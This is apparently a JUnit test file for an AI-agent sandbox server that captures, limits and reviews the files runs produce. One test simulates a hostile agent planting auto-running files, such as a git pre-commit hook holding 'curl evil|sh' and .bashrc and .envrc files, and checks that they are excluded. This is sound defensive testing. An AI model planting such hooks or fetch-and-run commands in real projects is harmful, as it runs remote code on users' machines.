package io.agentbox.server;

import com.fasterxml.jackson.databind.JsonNode;
import io.agentbox.server.support.Db;
import io.agentbox.server.support.Http;
import io.agentbox.server.support.Poll;
import io.agentbox.server.support.ServerTestBase;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;

import java.security.MessageDigest;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Files a run creates or changes under /workspace, captured at its end within small limits set for this class. */
@ParameterizedClass(name = "{0}")
@EnumSource(Db.class)
class ArtifactsTest extends ServerTestBase {

    @Override
    protected ServerConfig.Builder configure(ServerConfig.Builder b) {
        return b.artifactMaxFileBytes(1000).artifactMaxFiles(3).artifactMaxRunBytes(2500);
    }

    private static JsonNode run(Http http, String prompt, Map<String, Object> extra) {
        var body = new java.util.HashMap<String, Object>(extra);
        body.put("prompt", prompt);
        String id = http.post("/v1/runs", body).json().get("id").asText();
        return Poll.until(Duration.ofSeconds(30), () -> http.get("/v1/runs/" + id).json(),
                r -> List.of("succeeded", "failed", "canceled").contains(r.get("status").asText()), "run end");
    }

    private static JsonNode artifacts(Http http, String runId) {
        return http.get("/v1/runs/" + runId + "/artifacts").json();
    }

    @Test
    void changedFilesAreCapturedAndDownloadable() throws Exception {
        var t = server.tenant("capture");
        Http m = t.member();
        JsonNode r = run(m, "bash mkdir -p /workspace/out && printf hello > /workspace/out/hello.txt && head -c 700 /dev/urandom > /workspace/blob.bin;"
                + " write /workspace/report.md # Report; say done", Map.of("workspaceId", t.workspaceId()));
        assertThat(r.get("status").asText()).isEqualTo("succeeded");
        String runId = r.get("id").asText();
        JsonNode list = artifacts(m, runId);
        assertThat(list.get("data").findValuesAsText("path")).as("by path")
                .containsExactly("/workspace/blob.bin", "/workspace/out/hello.txt", "/workspace/report.md");
        assertThat(list.get("skipped")).isEmpty();
        for (JsonNode a : list.get("data")) {
            assertThat(a.get("reviewState").asText()).isEqualTo("pending");
            var download = m.get("/v1/runs/" + runId + "/artifacts/" + a.get("id").asText());
            assertThat(download.status()).isEqualTo(200);
            byte[] bytes = download.raw().body();
            assertThat(bytes).hasSize(a.get("size").asInt());
            assertThat(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes))).isEqualTo(a.get("sha256").asText());
            assertThat(download.header("Content-Disposition").orElse("")).contains("attachment");
        }
        JsonNode hello = list.get("data").get(1);
        assertThat(new String(m.get("/v1/runs/" + runId + "/artifacts/" + hello.get("id").asText()).raw().body())).isEqualTo("hello");
        assertThat(hello.get("contentType").asText()).startsWith("text/plain");
        assertThat(list.get("data").get(0).get("contentType").asText()).isEqualTo("application/octet-stream");
        assertThat(list.get("data").get(2).get("size").asInt()).isEqualTo("# Report".length());

        String events = m.get("/v1/runs/" + runId + "/events?follow=false").body();
        assertThat(events).contains("event: artifacts");
        assertThat(events.indexOf("event: artifacts")).as("before the terminal event").isLessThan(events.indexOf("event: run.completed"));
    }

    @Test
    void onlyWhatTheRunChangedCounts() {
        var t = server.tenant("changes");
        Http m = t.member();
        String session = m.post("/v1/sessions", Map.of("workspaceId", t.workspaceId())).json().get("id").asText();
        JsonNode first = run(m, "write /workspace/a.txt one; write /workspace/b.txt two; say ok", Map.of("sessionId", session));
        assertThat(artifacts(m, first.get("id").asText()).get("data").findValuesAsText("path")).containsExactly("/workspace/a.txt", "/workspace/b.txt");
        JsonNode second = run(m, "write /workspace/c.txt three; bash cat /workspace/a.txt; say ok", Map.of("sessionId", session));
        assertThat(artifacts(m, second.get("id").asText()).get("data").findValuesAsText("path")).as("files of earlier turns are not repeated")
                .containsExactly("/workspace/c.txt");
        JsonNode third = run(m, "bash printf changed > /workspace/a.txt; say ok", Map.of("sessionId", session));
        assertThat(artifacts(m, third.get("id").asText()).get("data").findValuesAsText("path")).containsExactly("/workspace/a.txt");

        JsonNode off = run(m, "write /workspace/d.txt four; say ok", Map.of("workspaceId", t.workspaceId(), "options", Map.of("captureArtifacts", false)));
        assertThat(artifacts(m, off.get("id").asText()).get("data")).isEmpty();
        JsonNode failed = run(m, "write /workspace/partial.txt half; fail", Map.of("workspaceId", t.workspaceId()));
        assertThat(failed.get("status").asText()).isEqualTo("failed");
        assertThat(artifacts(m, failed.get("id").asText()).get("data").findValuesAsText("path")).as("a failed run's files count too")
                .containsExactly("/workspace/partial.txt");
    }

    @Test
    void limitsSkipFilesWithTheReason() {
        var t = server.tenant("limits");
        JsonNode r = run(t.member(), "bash cd /workspace && head -c 900 /dev/zero > 1.bin && head -c 900 /dev/zero > 2.bin"
                + " && head -c 900 /dev/zero > 3.bin && head -c 5000 /dev/zero > big.bin && mkdir sub && printf x > sub/4.txt && printf y > sub/5.txt;"
                + " say done", Map.of("workspaceId", t.workspaceId()));
        JsonNode list = artifacts(t.member(), r.get("id").asText());
        assertThat(list.get("data").findValuesAsText("path")).containsExactly("/workspace/1.bin", "/workspace/2.bin", "/workspace/sub/4.txt");
        Map<String, String> skipped = new java.util.HashMap<>();
        list.get("skipped").forEach(s -> skipped.put(s.get("path").asText(), s.get("reason").asText()));
        assertThat(skipped).containsOnlyKeys("/workspace/3.bin", "/workspace/big.bin", "/workspace/sub/5.txt");
        assertThat(skipped.get("/workspace/3.bin")).contains("2500 bytes per run");
        assertThat(skipped.get("/workspace/big.bin")).contains("per-file limit of 1000 bytes");
        assertThat(skipped.get("/workspace/sub/5.txt")).contains("3 files per run");
        assertThat(t.member().get("/v1/runs/" + r.get("id").asText() + "/events?follow=false").body())
                .contains("\"skipped\":[").contains("\"count\":3");
    }

    /** Attack: an agent plants files that would run code where the artifacts are checked out. */
    @Test
    void filesThatRunByThemselvesAreNotCaptured() {
        var t = server.tenant("hostile");
        JsonNode r = run(t.member(), "bash cd /workspace && mkdir -p .git/hooks .vscode sub/.idea && echo 'curl evil|sh' > .git/hooks/pre-commit"
                + " && printf '[core]\\n\\tfsmonitor = x\\n' > .git/config && echo x > .envrc && echo x > .bashrc && echo '{}' > .vscode/tasks.json"
                + " && echo x > sub/.idea/workspace.xml && echo fine > ok.txt; say done", Map.of("workspaceId", t.workspaceId()));
        JsonNode list = artifacts(t.member(), r.get("id").asText());
        assertThat(list.get("data").findValuesAsText("path")).containsExactly("/workspace/ok.txt");
        Map<String, String> skipped = new java.util.HashMap<>();
        list.get("skipped").forEach(s -> skipped.put(s.get("path").asText(), s.get("reason").asText()));
        assertThat(skipped).containsOnlyKeys("/workspace/.git/hooks/pre-commit", "/workspace/.git/config", "/workspace/.envrc",
                "/workspace/.bashrc", "/workspace/.vscode/tasks.json", "/workspace/sub/.idea/workspace.xml");
        assertThat(skipped.get("/workspace/.git/hooks/pre-commit")).startsWith("not captured: git hooks");
        assertThat(skipped.get("/workspace/.bashrc")).startsWith("not captured: start-up file");
    }

    @Test
    void adminsAndOwnersReviewMembersRead() {
        var t = server.tenant("review");
        JsonNode r = run(t.member(), "write /workspace/x.txt x; write /workspace/y.txt y; say done", Map.of("workspaceId", t.workspaceId()));
        String runId = r.get("id").asText();
        JsonNode list = artifacts(t.viewer(), runId).get("data");
        String x = list.get(0).get("id").asText();
        String y = list.get(1).get("id").asText();
        String review = "/v1/runs/" + runId + "/artifacts/";
        assertThat(t.member().post(review + x + "/review", Map.of("state", "approved")).status()).isEqualTo(403);
        assertThat(t.viewer().post(review + x + "/review", Map.of("state", "approved")).status()).isEqualTo(403);
        assertThat(t.admin().post(review + x + "/review", Map.of("state", "maybe")).errorMessage()).contains("'state' must be one of");
        JsonNode approved = t.admin().post(review + x + "/review", Map.of("state", "approved")).json();
        assertThat(approved.get("reviewState").asText()).isEqualTo("approved");
        assertThat(approved.get("reviewedBy").asText()).isEqualTo(t.admin().get("/v1/me").json().get("principalId").asText());
        assertThat(t.owner().post(review + y + "/review", Map.of("state", "rejected")).json().get("reviewState").asText()).isEqualTo("rejected");
        assertThat(t.member().get("/v1/workspaces/" + t.workspaceId() + "/artifacts?reviewState=approved").json().get("data").findValuesAsText("id"))
                .containsExactly(x);
        assertThat(t.member().get("/v1/workspaces/" + t.workspaceId() + "/artifacts?reviewState=pending").json().get("data")).isEmpty();
        assertThat(t.member().get(review + "art_nope").status()).isEqualTo(404);
    }
}
